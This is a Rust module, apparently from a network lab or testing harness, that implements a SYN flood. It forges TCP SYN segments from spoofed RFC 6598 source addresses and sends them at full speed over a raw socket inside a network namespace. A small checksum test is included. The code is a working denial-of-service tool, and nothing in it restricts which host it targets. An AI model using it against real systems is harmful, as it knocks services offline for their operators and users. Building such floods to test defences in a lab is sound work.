//! A SYN flood: opening segments from sources that do not exist, as fast as one raw socket sends.

use std::net::{Ipv4Addr, SocketAddr, SocketAddrV4};
use std::os::fd::AsRawFd;

use anyhow::{Context, Result};
use nix::errno::Errno;
use nix::sys::socket::{AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket};

use crate::netns::Place;

/// The shared address space of RFC 6598: nobody in a lab has such an address.
const SOURCES: u32 = u32::from_be_bytes([100, 64, 0, 0]);

/// Sends `count` SYNs to an address from as many sources; returns how many were sent.
pub fn syn(from: &impl Place, to: SocketAddrV4, count: u32) -> Result<u32> {
    from.enter(|| {
        let raw = socket(AddressFamily::Inet, SockType::Raw, SockFlag::SOCK_CLOEXEC, SockProtocol::Raw)
            .context("cannot open a raw socket")?;
        let target = SockaddrIn::from(SocketAddrV4::new(*to.ip(), 0));
        let mut sent = 0;
        for number in 0..count {
            // Four million sources, and then their ports.
            let source = Ipv4Addr::from(SOURCES | number & 0x003f_ffff);
            let packet = segment(SocketAddrV4::new(source, 1024 + (number % 50_000) as u16), to, number);
            match sendto(raw.as_raw_fd(), &packet, &target, MsgFlags::empty()) {
                Ok(_) => sent += 1,
                // The link's queue is full: what a flood does.
                Err(Errno::ENOBUFS | Errno::EAGAIN) => {}
                Err(error) => return Err(error).with_context(|| SocketAddr::V4(to).to_string()),
            }
        }
        Ok(sent)
    })
}

/// A SYN with no options (RFC 9293 section 3.1). The kernel fills in the checksum of the IPv4 header.
fn segment(from: SocketAddrV4, to: SocketAddrV4, sequence: u32) -> [u8; 40] {
    let mut packet = [0; 40];
    packet[..12].copy_from_slice(&[0x45, 0, 0, 40, 0, 0, 0, 0, 64, 6, 0, 0]);
    packet[12..16].copy_from_slice(&from.ip().octets());
    packet[16..20].copy_from_slice(&to.ip().octets());
    packet[20..22].copy_from_slice(&from.port().to_be_bytes());
    packet[22..24].copy_from_slice(&to.port().to_be_bytes());
    packet[24..28].copy_from_slice(&sequence.to_be_bytes());
    packet[32..36].copy_from_slice(&[0x50, 0x02, 0xff, 0xff]);
    // The pseudo-header: both addresses, the protocol and the length.
    let words = packet[12..].chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
    let mut sum = words.sum::<u32>() + 6 + 20;
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    packet[36..38].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_segment_sums_to_all_ones() {
        let packet = segment("100.64.1.2:1024".parse().unwrap(), "198.18.1.1:8080".parse().unwrap(), 7_777_777);
        let words = packet[12..].chunks_exact(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]])));
        let sum = words.sum::<u32>() + 6 + 20;
        assert_eq!((sum & 0xffff) + (sum >> 16), 0xffff);
    }
}
